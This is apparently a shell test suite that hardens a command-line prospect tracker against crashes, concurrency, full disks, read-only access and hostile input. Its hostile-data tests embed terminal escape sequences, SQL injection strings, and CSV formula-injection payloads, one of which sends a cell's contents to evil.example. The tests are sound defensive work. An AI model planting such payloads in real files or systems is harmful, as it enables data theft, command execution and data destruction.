# t_hardening.sh - issue 9: fault injection and hostile data.  kill -9
# during log, import, export vdir and undo; 200 parallel writers; a full
# disk (RLIMIT_FSIZE, a tmpfs when mountable, /dev/full); a read-only
# database for an unprivileged user; escape sequences, control characters,
# invalid UTF-8, formula cells and SQL metacharacters; file modes.

# h_env: set HENV to the clean environment of lib.sh's fu, as a command
# prefix.  "${HENV[@]}" "$FU" ... & is a simple command, so $! is the pid
# of followup itself (env execs it), not of a subshell.
h_env() {
	HENV=(env -i PATH="$PATH" HOME="$T/home" XDG_DATA_HOME="$T/data" XDG_CONFIG_HOME="$T/config"
		TZ=UTC LANG=C.UTF-8 LC_ALL=C.UTF-8 FOLLOWUP_DB="${DB-$T/fu.db}" FOLLOWUP_TODAY="$TODAY")
}

integrity_ok() {
	local r
	r=$(sqlite3 "${DB-$T/fu.db}" 'PRAGMA integrity_check') || fail "sqlite3 failed on the database"
	[ "$r" = ok ] || fail "integrity_check: $r"
}

count_of() { sqlite3 "${DB-$T/fu.db}" "SELECT count(*) FROM $1"; }

# no_ctl FILE WHAT: FILE has no ESC and no C0 byte other than newline.
no_ctl() {
	/usr/bin/python3 - "$1" "$2" <<'EOF'
import sys
data = open(sys.argv[1], "rb").read()
bad = sorted({b for b in data if (b < 0x20 and b != 0x0a) or b == 0x7f})
if b"\xc2\x9b" in data or b"\xc2\x9d" in data:
    bad.append("C1 CSI/OSC")
if bad:
    print("    %s contains control bytes %s: %r" % (sys.argv[2], bad, data[:300]))
    sys.exit(1)
EOF
}

# make_csv FILE N: N distinct prospects.
make_csv() {
	/usr/bin/python3 - "$1" "$2" <<'EOF'
import sys
with open(sys.argv[1], "w") as f:
    f.write("name,company,email,phone,first_contact,notes\n")
    for i in range(int(sys.argv[2])):
        f.write("Person %d,Co %d,p%d@example.com,+1 555 %07d,2026-10-01,note %d\n" % (i, i % 50, i, i, i))
EOF
}

# --- kill -9 ------------------------------------------------------------------

test_kill9_during_log_keeps_every_acknowledged_touch() {
	local i n=60 pids="" victim ok=0
	for i in 1 2 3 4 5; do fu_ok add "P$i"; done
	h_env
	for i in $(seq 1 $n); do
		"${HENV[@]}" "$FU" log $((i % 5 + 1)) --channel call --outcome connected --note "k$i" \
			>"$T/l$i.out" 2>"$T/l$i.err" </dev/null &
		pids="$pids $!"
		echo "$!" >"$T/l$i.pid"
		# Every 10th: kill -9 one of the last three started, after a
		# random delay of 0-40 ms, while it runs.
		if [ $((i % 10)) -eq 0 ]; then
			sleep "0.0$((RANDOM % 5))"
			victim=$(cat "$T/l$((i - RANDOM % 3)).pid")
			kill -9 "$victim" 2>/dev/null || true
		fi
	done
	for i in $(seq 1 $n); do
		wait "$(cat "$T/l$i.pid")" && echo 0 >"$T/l$i.rc" || echo $? >"$T/l$i.rc"
	done
	integrity_ok
	for i in $(seq 1 $n); do
		if [ "$(cat "$T/l$i.rc")" = 0 ]; then
			ok=$((ok + 1))
			[ "$(sqlite3 "$T/fu.db" "SELECT count(*) FROM touch WHERE note = 'k$i'")" = 1 ] ||
				fail "log k$i returned 0 but its touch is missing"
		else
			[ "$(cat "$T/l$i.rc")" = 137 ] || fail "log k$i: exit $(cat "$T/l$i.rc"): $(cat "$T/l$i.err")"
		fi
	done
	fu_ok list --format json
	local sum
	sum=$(jget 'sum(p["touch_count"] for p in d)')
	[ "$sum" -ge "$ok" ] && [ "$sum" -le "$n" ] || fail "touch_count sum $sum, $ok acknowledged of $n"
	echo "    log: $ok of $n acknowledged, $sum touches"
	[ "$ok" -lt "$n" ] || echo "    note: no log process was caught mid-run"
}

test_kill9_during_import_is_all_or_nothing() {
	fu_ok add "Before" --company "Keep Co"
	fu_ok log 1 --channel call --outcome connected --note "kept"
	make_csv "$T/big.csv" 100000
	h_env
	"${HENV[@]}" "$FU" import "$T/big.csv" >"$T/imp.out" 2>"$T/imp.err" </dev/null &
	local pid=$! rc=0 n
	sleep 0.4
	kill -0 "$pid" 2>/dev/null || fail "import finished within 0.4 s: nothing killed"
	kill -9 "$pid"
	wait "$pid" || rc=$?
	[ "$rc" = 137 ] || fail "import exit $rc"
	integrity_ok
	n=$(count_of prospect)
	[ "$n" = 1 ] || [ "$n" = 100001 ] || fail "killed import left $n prospects (partial)"
	fu_ok show 1 --format json
	expect_json 'd["name"], d["company"], [t["note"] for t in d["touches"]]' "('Before', 'Keep Co', ['kept'])"
	# The store still works and a second import completes.
	fu import "$T/big.csv"
	expect_rc 0
	[ "$(count_of prospect)" = 100001 ] || fail "re-import gave $(count_of prospect)"
	integrity_ok
}

test_kill9_during_export_vdir_leaves_no_partial_file() {
	local v=$T/vdir pid rc=0 f
	make_csv "$T/p.csv" 400
	fu import "$T/p.csv"
	expect_rc 0
	h_env
	"${HENV[@]}" "$FU" export vdir "$v" --days 400 >"$T/x.out" 2>"$T/x.err" </dev/null &
	pid=$!
	for f in $(seq 1 200); do
		[ "$(ls "$v" 2>/dev/null | wc -l)" -lt 20 ] || break
		sleep 0.02
	done
	kill -0 "$pid" 2>/dev/null || fail "export vdir finished before the kill"
	kill -9 "$pid"
	wait "$pid" || rc=$?
	[ "$rc" = 137 ] || fail "export exit $rc"
	echo "    vdir: $(ls "$v" | wc -l) files when killed"
	# Every .ics complete, no temp file: right after the kill, and after a
	# successful export over the same directory.
	# A temp file being written when the kill lands can stay (nothing can
	# remove it then); it is hidden, never a *.ics event, and the next
	# export removes it.  So: no complete-looking partial event now, and no
	# temp file at all after a re-export.
	check_vdir() {
		local bad
		# (The vdir's manifest, .followup-<db id>.manifest, is no temp file.)
		bad=$(ls -A "$1" | grep -E '(^\.|tmp)' | grep -vE '^\.followup-[0-9a-f]+\.manifest$' | head -n3)
		[ -z "$bad" ] || [ "$3" = may-have-temp ] || fail "$2: temp files left in the vdir: $bad" || return 1
		! ls -A "$1" | grep -qE '^[^.].*tmp' || fail "$2: a visible temp file" || return 1
		for f in "$1"/*.ics; do
			[ -e "$f" ] || continue
			[ "$(tail -c 16 "$f" | tr -d '\r\n')" = "END:VCALENDAR" ] ||
				fail "$2: $f is incomplete: $(tail -c 60 "$f")" || return 1
		done
	}
	local bad=0
	check_vdir "$v" "after kill -9" may-have-temp || bad=1
	integrity_ok
	fu_ok export vdir "$v" --days 400
	check_vdir "$v" "after a re-export" || bad=1
	[ "$(ls "$v" | wc -l)" -gt 20 ] || fail "re-export wrote $(ls "$v" | wc -l) files"
	[ "$bad" = 0 ]
}

test_kill9_during_undo_is_all_or_nothing() {
	local pid rc=0 n i
	fu_ok add "Before"
	make_csv "$T/u.csv" 60000
	fu import "$T/u.csv"
	expect_rc 0
	[ "$(count_of prospect)" = 60001 ] || fail "setup: $(count_of prospect)"
	h_env
	"${HENV[@]}" "$FU" undo >"$T/u.out" 2>"$T/u.err" </dev/null &
	pid=$!
	# Kill as soon as the undo has started work (the write lock is taken).
	for i in $(seq 1 100); do
		sleep 0.01
		[ -e "$T/fu.db-wal" ] && [ "$(stat -c %s "$T/fu.db-wal" 2>/dev/null || echo 0)" -gt 0 ] && break
	done
	if kill -9 "$pid" 2>/dev/null; then
		wait "$pid" || rc=$?
		[ "$rc" = 137 ] || fail "undo exit $rc"
	else
		wait "$pid" || rc=$?
		echo "    undo finished before the kill (exit $rc)"
	fi
	integrity_ok
	n=$(count_of prospect)
	[ "$n" = 1 ] || [ "$n" = 60001 ] || fail "killed undo left $n prospects (partial)"
	if [ "$n" = 60001 ]; then
		fu_ok undo
		[ "$(count_of prospect)" = 1 ] || fail "undo after the kill left $(count_of prospect)"
	fi
	fu_ok show 1 --format json
	expect_json 'd["name"]' Before
}

# --- concurrency -----------------------------------------------------------

test_200_parallel_log_processes() {
	local i pids=""
	for i in $(seq 1 20); do fu_ok add "P$i"; done
	h_env
	for i in $(seq 1 200); do
		"${HENV[@]}" "$FU" log $((i % 20 + 1)) --channel email --outcome replied --note "c$i" \
			>"$T/c$i.out" 2>"$T/c$i.err" </dev/null &
		echo "$!" >"$T/c$i.pid"
	done
	local bad=0
	for i in $(seq 1 200); do
		wait "$(cat "$T/c$i.pid")" || { bad=$((bad + 1)); echo "    log c$i: exit $?: $(cat "$T/c$i.err")"; }
	done
	[ "$bad" = 0 ] || fail "$bad of 200 log processes failed"
	! grep -l 'locked' "$T"/c*.err >/dev/null || fail "database is locked: $(cat "$T"/c*.err | grep locked | head -n2)"
	for i in $(seq 1 200); do [ ! -s "$T/c$i.err" ] || fail "c$i stderr: $(cat "$T/c$i.err")"; done
	fu_ok list --format json
	expect_json 'sum(p["touch_count"] for p in d)' 200
	expect_json 'sorted(p["touch_count"] for p in d) == [10] * 20' true
	integrity_ok
}

# --- disk full -------------------------------------------------------------

# Note: PRAGMA max_page_count is per connection (not stored in the file), so
# sqlite3 cannot impose it on another process; the file size limit
# (RLIMIT_FSIZE, SIGXFSZ ignored so writes fail with EFBIG) stands in for it.
test_disk_full_file_size_limit_import_fails_cleanly() {
	fu_ok add "Before"
	fu_ok log 1 --channel call --outcome connected --note "kept"
	make_csv "$T/big.csv" 20000
	local kb=$(( ($(stat -c %s "$T/fu.db") + 1023) / 1024 + 64 )) before
	before=$(sqlite3 "$T/fu.db" 'SELECT count(*) FROM prospect')
	(trap '' XFSZ; ulimit -f "$kb"; fu import "$T/big.csv"; echo "$RC" >"$T/rc")
	RC=$(cat "$T/rc")
	expect_rc 1
	expect_err_line
	integrity_ok
	[ "$(count_of prospect)" = "$before" ] || fail "failed import left $(count_of prospect) prospects"
	fu_ok show 1 --format json
	expect_json '[t["note"] for t in d["touches"]]' '["kept"]'
	# Many adds: each either succeeds or fails with one line, none corrupts.
	local i ok=0
	for i in $(seq 1 40); do
		(trap '' XFSZ; ulimit -f "$kb"; fu add "Add $i" --note "$(printf 'x%.0s' $(seq 1 2000))"; echo "$RC" >"$T/rc"; cp "$T/err" "$T/adderr")
		RC=$(cat "$T/rc")
		if [ "$RC" = 0 ]; then ok=$((ok + 1)); else
			expect_rc 1; cp "$T/adderr" "$T/err"; expect_err_line
		fi
	done
	integrity_ok
	[ "$(count_of prospect)" = $((before + ok)) ] || fail "$ok adds acknowledged, $(count_of prospect) prospects"
}

test_disk_full_tmpfs() {
	local m=$T/mnt
	mkdir -p "$m"
	if ! mount -t tmpfs -o size=200k tmpfs "$m" 2>/dev/null; then
		echo "    SKIP: cannot mount a tmpfs here (not root or no CAP_SYS_ADMIN)"
		return 0
	fi
	trap 'umount "$m" 2>/dev/null' EXIT
	DB=$m/fu.db
	fu_ok add "Before"
	make_csv "$T/big.csv" 20000
	fu import "$T/big.csv"
	expect_rc 1
	expect_err_line
	integrity_ok
	[ "$(count_of prospect)" = 1 ] || fail "failed import left $(count_of prospect) prospects"
	fu export csv "$m/out.csv"
	echo "    tmpfs export csv: exit $RC"
	fu export ics "$m/out.ics" --days 365
	echo "    tmpfs export ics: exit $RC"
	[ -z "$(ls -A "$m" | grep tmp)" ] || fail "temp export left on the full disk: $(ls -A "$m")"
	fu_ok show 1 --format json
	expect_json 'd["name"]' Before
	umount "$m"
	trap - EXIT
}

test_export_to_dev_full_fails_with_one_line() {
	fu_ok add "Ana"
	fu_ok add "Bo"
	local what
	for what in ics csv; do
		fu export "$what" /dev/full
		expect_rc 1
		expect_err_line
	done
	[ -c /dev/full ] || fail "/dev/full is no longer a device"
	fu export csv /dev/full --touches
	expect_rc 1
	expect_err_line
}

# --- read-only -------------------------------------------------------------

# nobody ARGS: run followup as uid/gid 65534, into $T/out, $T/err, $RC.
nobody() {
	setpriv --reuid=65534 --regid=65534 --clear-groups env -i PATH="$PATH" HOME=/nonexistent \
		TZ=UTC LANG=C.UTF-8 LC_ALL=C.UTF-8 FOLLOWUP_DB="$T/ro/fu.db" FOLLOWUP_TODAY="$TODAY" \
		XDG_CONFIG_HOME=/nonexistent XDG_DATA_HOME=/nonexistent \
		"$FU" "$@" >"$T/out" 2>"$T/err" </dev/null && RC=0 || RC=$?
}

test_read_only_database_for_unprivileged_user() {
	[ "$(id -u)" = 0 ] || { echo "    SKIP: not root"; return 0; }
	mkdir "$T/ro"
	DB=$T/ro/fu.db
	fu_ok add "Ana"
	fu_ok log 1 --channel call --outcome connected
	rm -f "$T/ro/fu.db-wal" "$T/ro/fu.db-shm"
	chmod 0755 "$T" "$T/ro"
	chmod 0644 "$T/ro/fu.db"
	setpriv --reuid=65534 --regid=65534 --clear-groups test -x "$FU" || { echo "    SKIP: binary not executable by nobody"; return 0; }
	local before
	before=$(db_hash)
	nobody add "Bo"
	expect_rc 1
	expect_err_line
	[ "$(db_hash)" = "$before" ] || fail "add by a read-only user changed the file"
	nobody due
	if [ "$RC" = 0 ]; then
		[ ! -s "$T/err" ] || fail "due worked but wrote stderr: $(cat "$T/err")"
		echo "    read-only due: works"
	else
		expect_rc 1
		expect_err_line
		echo "    read-only due: fails cleanly: $(cat "$T/err")"
	fi
	[ "$(db_hash)" = "$before" ] || fail "due by a read-only user changed the file"
	[ ! -e "$T/ro/fu.db-wal" ] && [ ! -e "$T/ro/fu.db-journal" ] || fail "side files created"
	integrity_ok
}

# --- hostile data ----------------------------------------------------------

test_escape_sequences_never_reach_the_output() {
	local red=$'\e[31mRED\e[0m' osc=$'\e]52;c;ZXZpbA==\a' ctl=$'a\x01b\x08c\rd\x7fe\tf' c1=$'\xc2\x9b31m'
	fu_ok add "Ana ${red}" --company "${osc}Co" --title "$ctl" --note "note ${osc} ${c1}" --source "$c1"
	fu_ok log 1 --channel call --outcome connected --note "t ${red}${osc}${ctl}"
	fu_ok add "Bo${ctl}"
	TODAY=2026-12-31
	local cmd
	for cmd in "due" "due --days 30" "list" "list --status all" "show 1" "show 2" "stats"; do
		# shellcheck disable=SC2086
		fu_ok $cmd
		no_ctl "$T/out" "$cmd stdout"
	done
	# Error messages echo user input: sanitised too.
	fu show "$osc"
	[ "$RC" != 0 ] || fail "show of an unknown name succeeded"
	no_ctl "$T/err" "show <osc> stderr"
	fu add "x" --cadence "$red"
	[ "$RC" != 0 ] || fail "unknown cadence accepted"
	no_ctl "$T/err" "add --cadence <esc> stderr"
	fu log 1 --channel "$red" --outcome connected
	[ "$RC" != 0 ] || fail "bad channel accepted"
	no_ctl "$T/err" "log --channel <esc> stderr"
	fu delete 1 --yes
	expect_rc 0
	no_ctl "$T/out" "delete stdout"
	fu_ok undo
	no_ctl "$T/out" "undo stdout"
	# JSON keeps the exact text, escaped.
	fu_ok show 1 --format json
	! grep -q $'\e' "$T/out" || fail "raw ESC in JSON output"
	/usr/bin/python3 - "$T/out" "Ana ${red}" "${osc}Co" "$ctl" "note ${osc} ${c1}" "t ${red}${osc}${ctl}" <<'EOF' || fail "JSON did not round-trip"
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8"))
want = {"name": sys.argv[2], "company": sys.argv[3], "title": sys.argv[4], "notes": sys.argv[5]}
for k, v in want.items():
    if d.get(k) != v:
        print("    %s: expected %r, got %r" % (k, v, d.get(k))); sys.exit(1)
if [t["note"] for t in d["touches"]] != [sys.argv[6]]:
    print("    touch note: %r" % [t["note"] for t in d["touches"]]); sys.exit(1)
EOF
}

test_escape_sequences_through_a_terminal() {
	command -v script >/dev/null || { echo "    SKIP: no script(1)"; return 0; }
	fu_ok add $'Eve \e]52;c;ZXZpbA==\a\e[2J' --note $'\e[31mred'
	TODAY=2026-12-31
	local cmd
	for cmd in due list "show 1"; do
		h_env
		"${HENV[@]}" script -qec "$FU $cmd" /dev/null >"$T/tty" 2>&1 </dev/null || fail "$cmd on a tty failed: $(cat "$T/tty")"
		tr -d '\r' <"$T/tty" >"$T/tty2"
		no_ctl "$T/tty2" "$cmd on a terminal"
		grep -q 'Eve' "$T/tty2" || fail "$cmd on a terminal lacks the name: $(cat "$T/tty2")"
	done
}

test_invalid_utf8_is_rejected_or_kept_safely() {
	local bad=$'Zed\xff\xfe\e[1m'
	fu add "$bad" --note $'n\xc3'
	if [ "$RC" = 0 ]; then
		echo "    invalid UTF-8: accepted"
		local id
		id=$(cat "$T/out")
		TODAY=2026-12-31
		for cmd in due list "show $id"; do
			# shellcheck disable=SC2086
			fu_ok $cmd
			no_ctl "$T/out" "$cmd stdout"
		done
		fu_ok show "$id" --format json
		/usr/bin/python3 -c 'import json,sys; json.loads(open(sys.argv[1],"rb").read().decode("utf-8"))' "$T/out" ||
			fail "show --format json is not valid UTF-8 JSON: $(od -c "$T/out" | head -n5)"
		fu_ok list --format json
		/usr/bin/python3 -c 'import json,sys; json.loads(open(sys.argv[1],"rb").read().decode("utf-8"))' "$T/out" ||
			fail "list --format json is not valid UTF-8 JSON"
	else
		echo "    invalid UTF-8: refused (exit $RC)"
		expect_err_line
		no_ctl "$T/err" "invalid UTF-8 error"
		[ "$(count_of prospect)" = 0 ] || fail "refused add stored a row"
	fi
}

test_csv_export_neutralises_formula_cells() {
	fu_ok add '=HYPERLINK("http://evil.example/?"&A1,"x")' --company '+1+cmd|'"' /C calc'"'!A0' \
		--title '-2+3' --source '@SUM(1,2)' --note $'\t=1+1'
	fu_ok add 'Plain' --company $'\r=2' --note '=cmd'
	fu_ok log 1 --channel call --outcome connected --note '=IMPORTXML("http://x")'
	fu_ok export csv "$T/p.csv"
	fu_ok export csv "$T/t.csv" --touches
	/usr/bin/python3 - "$T/p.csv" "$T/t.csv" <<'EOF' || fail "formula cells exported raw"
import csv, sys
bad = []
for fn in sys.argv[1:]:
    for row in csv.reader(open(fn, newline="", encoding="utf-8")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                bad.append((fn.rsplit("/", 1)[1], cell))
if bad:
    print("    %r" % bad); sys.exit(1)
EOF
}

test_sql_metacharacters_round_trip() {
	local inj="Robert'); DROP TABLE prospect; --" pct='100% off_sale \ back\\slash "q"'
	fu_ok add "$inj" --company "$pct" --title "_%'\"" --source "'; DELETE FROM touch; --" \
		--note "$inj $pct" --phone "+1 555 0100" --email "o'brien%_x@example.com"
	fu_ok add "Other" --company "Acme"
	fu_ok log 1 --channel call --outcome connected --note "$inj"
	[ "$(sqlite3 "$T/fu.db" "SELECT count(*) FROM sqlite_master WHERE name = 'prospect'")" = 1 ] || fail "table dropped"
	fu_ok show 1 --format json
	cp "$T/out" "$T/a.json"
	/usr/bin/python3 - "$T/a.json" "$inj" "$pct" <<'EOF' || fail "fields not intact"
import json, sys
d = json.load(open(sys.argv[1]))
inj, pct = sys.argv[2], sys.argv[3]
want = {"name": inj, "company": pct, "title": "_%'\"", "source": "'; DELETE FROM touch; --",
        "notes": inj + " " + pct, "email": "o'brien%_x@example.com"}
for k, v in want.items():
    if d.get(k) != v:
        print("    %s: expected %r, got %r" % (k, v, d.get(k))); sys.exit(1)
if [t["note"] for t in d["touches"]] != [inj]:
    print("    touch note %r" % d["touches"]); sys.exit(1)
EOF
	# Wildcards are literal in filters: they never match "Acme".
	local w
	for w in "%" "_" "%%" "A%" "_cme" "$pct"; do
		fu_ok list --company "$w" --format json
		expect_json '"Other" in [p["name"] for p in d]' false
	done
	fu_ok list --company "$pct" --format json
	expect_json '[p["id"] for p in d]' '[1]'
	# Export, import into a fresh database: the same fields.
	fu_ok export csv "$T/p.csv"
	fu_ok export csv "$T/t.csv" --touches
	DB=$T/fresh.db
	fu import "$T/p.csv"
	expect_rc 0
	fu import --touches "$T/t.csv"
	expect_rc 0
	fu_ok list --format json
	local id
	id=$(jget '[p["id"] for p in d if p["name"] != "Other"][0]')
	fu_ok show "$id" --format json
	/usr/bin/python3 - "$T/a.json" "$T/out" <<'EOF' || fail "export/import round trip changed fields"
import json, sys
a = json.load(open(sys.argv[1])); b = json.load(open(sys.argv[2]))
for k in ("name", "company", "title", "source", "notes", "email", "phone"):
    if a.get(k) != b.get(k):
        print("    %s: %r became %r" % (k, a.get(k), b.get(k))); sys.exit(1)
if [t["note"] for t in a["touches"]] != [t["note"] for t in b["touches"]]:
    print("    touches %r became %r" % (a["touches"], b["touches"])); sys.exit(1)
EOF
}

# --- file modes ------------------------------------------------------------

test_exports_are_created_0600() {
	umask 000
	fu_ok add "Ana"
	fu_ok export csv "$T/p.csv"
	fu_ok export csv "$T/t.csv" --touches
	fu_ok export ics "$T/a.ics" --days 30
	fu_ok export vdir "$T/v" --days 30
	local f
	for f in "$T/p.csv" "$T/t.csv" "$T/a.ics" "$T"/v/*.ics; do
		[ -e "$f" ] || fail "no export $f"
		[ "$(stat -c %a "$f")" = 600 ] || fail "$f mode $(stat -c %a "$f")"
	done
	[ "$(stat -c %a "$T/v")" = 700 ] || echo "    note: vdir directory mode $(stat -c %a "$T/v")"
}

test_default_data_directory_0700_and_database_0600_under_umask_000() {
	umask 000
	DB=""
	fu_ok add "Ana"
	[ "$(stat -c %a "$T/data/followup")" = 700 ] || fail "dir mode $(stat -c %a "$T/data/followup")"
	[ "$(stat -c %a "$T/data/followup/followup.db")" = 600 ] || fail "db mode"
	local f
	for f in "$T/data/followup/followup.db-wal" "$T/data/followup/followup.db-shm"; do
		[ ! -e "$f" ] || [ "$(stat -c %a "$f")" = 600 ] || fail "$f mode $(stat -c %a "$f")"
	done
}
